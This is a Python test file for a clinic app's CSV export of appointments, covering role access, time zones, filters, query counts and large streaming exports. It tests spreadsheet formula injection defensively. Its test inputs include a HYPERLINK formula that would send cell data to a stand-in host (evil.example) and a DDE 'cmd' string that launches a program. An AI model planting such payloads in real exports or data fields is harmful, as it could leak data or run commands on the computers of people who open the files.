"""GET /appointments/export/: the list's rows and filters as streamed CSV, neutralised cells, per role."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection
from django.utils import timezone

from clinic import export
from clinic.models import Appointment
from tests.api.conftest import client_for
from tests.factories import AppointmentFactory, AppointmentTypeFactory, DoctorFactory, PatientFactory

pytestmark = pytest.mark.django_db

URL = "/appointments/export/"


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode()
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert tuple(header) == export.HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


@pytest.mark.parametrize(
    ("role", "status", "sees"),
    [
        ("anonymous", 401, None),
        ("patient_a", 403, None),
        ("doctor_x", 200, {"appt_a"}),
        ("doctor_y", 200, {"appt_b"}),
        ("reception", 200, {"appt_a", "appt_b"}),
        ("admin", 200, {"appt_a", "appt_b"}),
    ],
)
def test_each_role_exports_what_it_sees_or_is_refused(clinic, role, status, sees):
    response = client_for(clinic.user(role)).get(URL)
    assert response.status_code == status
    if sees is None:
        assert "detail" in response.json()
        if status == 401:
            assert response.has_header("WWW-Authenticate")
        return
    expected = {str(getattr(clinic, name).pk) for name in sees}
    assert {row["id"] for row in _rows(response)} == expected


def test_the_columns_times_in_the_clinic_zone_and_the_dated_filename(settings, reception):
    settings.TIME_ZONE = "Europe/Berlin"
    kind = AppointmentTypeFactory(name="Follow-up")
    start = datetime(2030, 7, 1, 8, 0, tzinfo=UTC)  # summer time: +02:00 in Berlin
    appointment = AppointmentFactory(
        appointment_time=start,
        appointment_type=kind,
        status=Appointment.Status.COMPLETED,
        reason="Knee",
        arrived_at=start - timedelta(minutes=10),
        started_at=start,
        completed_at=start + timedelta(minutes=20),
        doctor=DoctorFactory(user__first_name="Ada", user__last_name="Lovelace"),
        patient=PatientFactory(user__first_name="Alan", user__last_name="Turing"),
    )
    factories_record = appointment.medical_records.create(
        patient=appointment.patient, author=appointment.doctor.user, notes="SECRET NOTES"
    )
    response = client_for(reception).get(URL)
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="appointments-{today}.csv"'
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    assert factories_record.notes not in body
    (row,) = csv.DictReader(io.StringIO(body, newline=""))
    assert row == {
        "id": str(appointment.pk),
        "start": "2030-07-01T10:00:00+02:00",
        "end": "2030-07-01T10:30:00+02:00",
        "status": "completed",
        "doctor_id": str(appointment.doctor_id),
        "doctor": "Ada Lovelace",
        "patient_id": str(appointment.patient_id),
        "patient": "Alan Turing",
        "appointment_type": "Follow-up",
        "reason": "Knee",
        "created_at": timezone.localtime(appointment.created_at).isoformat(),
        "arrived_at": "2030-07-01T09:50:00+02:00",
        "started_at": "2030-07-01T10:00:00+02:00",
        "completed_at": "2030-07-01T10:20:00+02:00",
        "series_id": "",
    }


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"],
)
def test_a_formula_in_a_reason_or_a_name_comes_out_as_text(reception, payload):
    AppointmentFactory(reason=payload, patient=PatientFactory(user__first_name=payload, user__last_name=""))
    (row,) = _rows(client_for(reception).get(URL))
    assert row["reason"] == "'" + payload
    assert row["patient"] == "'" + payload
    assert not any(cell.startswith(export.FORMULA_STARTS) for cell in row.values())


def test_a_plain_cell_is_left_as_it_is():
    assert export.neutralise("Check-up") == "Check-up"
    assert export.neutralise("") == ""
    assert export.neutralise("-") == "'-"


def test_the_filters_give_exactly_the_lists_rows(reception, next_monday_10):
    doctor, patient = DoctorFactory(), PatientFactory()
    AppointmentFactory(doctor=doctor, patient=patient, appointment_time=next_monday_10)
    AppointmentFactory(doctor=doctor, appointment_time=next_monday_10 + timedelta(days=1), status="confirmed")
    AppointmentFactory(patient=patient, appointment_time=next_monday_10 + timedelta(days=2), status="cancelled")
    AppointmentFactory(appointment_time=next_monday_10 + timedelta(days=3))
    client = client_for(reception)
    day = next_monday_10.date()
    queries = [
        {},
        {"doctor": doctor.pk},
        {"patient": patient.pk},
        {"status": "confirmed"},
        {"date_from": (day + timedelta(days=1)).isoformat()},
        {"date_to": (day + timedelta(days=1)).isoformat()},
        {"doctor": doctor.pk, "date_from": day.isoformat(), "date_to": day.isoformat()},
        {"patient": patient.pk, "status": "pending"},
    ]
    seen = set()
    for query in queries:
        listed = [row["id"] for row in client.get("/appointments/", {**query, "page_size": 200}).json()["results"]]
        exported = [int(row["id"]) for row in _rows(client.get(URL, query))]
        assert exported == listed, query  # the same rows, in the same order
        seen.add(len(exported))
    assert len(seen) > 2  # the filters do narrow


@pytest.mark.parametrize("bad", [{"status": "done"}, {"date_from": "yesterday"}, {"doctor": "x"}, {"patient": "0"}])
def test_a_bad_filter_is_the_lists_400(reception, bad):
    client = client_for(reception)
    listed = client.get("/appointments/", bad)
    exported = client.get(URL, bad, HTTP_ACCEPT="text/csv")
    assert exported.status_code == listed.status_code == 400
    assert exported["Content-Type"] == "application/json"
    assert exported.json() == listed.json()


def test_the_query_count_does_not_grow_with_the_rows(reception, django_assert_num_queries):
    def export_rows() -> int:
        client = client_for(reception)  # a fresh user object: its role is not cached yet
        # 1. the user's role (reception group, doctor and patient ids)
        # 2. the appointments with doctor, patient and type names, one joined SELECT
        with django_assert_num_queries(2):
            return len(_rows(client.get(URL)))

    AppointmentFactory.create_batch(2)
    assert export_rows() == 2
    AppointmentFactory.create_batch(25)
    assert export_rows() == 27


def _bulk_appointments(count: int) -> None:
    """`count` confirmed appointments of one doctor and one patient, 30 minutes apart (no overlap),
    inserted by one INSERT … SELECT over a counter, so building 100k rows takes the database a moment.
    Every thousandth reason is a formula."""
    doctor, patient = DoctorFactory(), PatientFactory()
    adapt = connection.ops.adapt_datetimefield_value
    first, now = adapt(datetime(2031, 1, 6, 8, 0, tzinfo=UTC)), adapt(timezone.now())
    if connection.vendor == "postgresql":
        at = "%s::timestamptz + (i + {}) * interval '30 minutes'".format
    else:
        at = "datetime(%s, '+' || ((i + {}) * 30) || ' minutes')".format
    starts, ends = at(0), at(1)
    sql = f"""
        INSERT INTO {Appointment._meta.db_table}
            (patient_id, doctor_id, appointment_time, ends_at, blocked_from, blocked_until,
             status, reason, sequence, created_at, updated_at)
        WITH RECURSIVE counter(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM counter WHERE i + 1 < %s)
        SELECT %s, %s, {starts}, {ends}, {starts}, {ends}, 'confirmed',
               CASE WHEN i - (i / 1000) * 1000 = 0 THEN '=1+1' ELSE 'Check-up' END, 0, %s, %s
        FROM counter
    """  # noqa: S608 (the table name is the model's; values are parameters)
    with connection.cursor() as cursor:
        cursor.execute(sql, [count, patient.pk, doctor.pk, first, first, first, first, now, now])
    assert Appointment.objects.count() == count


@pytest.mark.scale
def test_100k_appointments_stream_in_constant_queries(reception, django_assert_num_queries):
    _bulk_appointments(100_000)
    client = client_for(reception)
    # 1. the role; 2. one SELECT read through a cursor in chunks (server-side on PostgreSQL)
    with django_assert_num_queries(2):
        response = client.get(URL)
        assert response.streaming
        lines = 0
        neutralised = 0
        for chunk in response.streaming_content:
            lines += chunk.count(b"\n")
            neutralised += chunk.count(b",'=1+1,")
    assert lines == 100_001  # the header and every row
    assert neutralised == 100
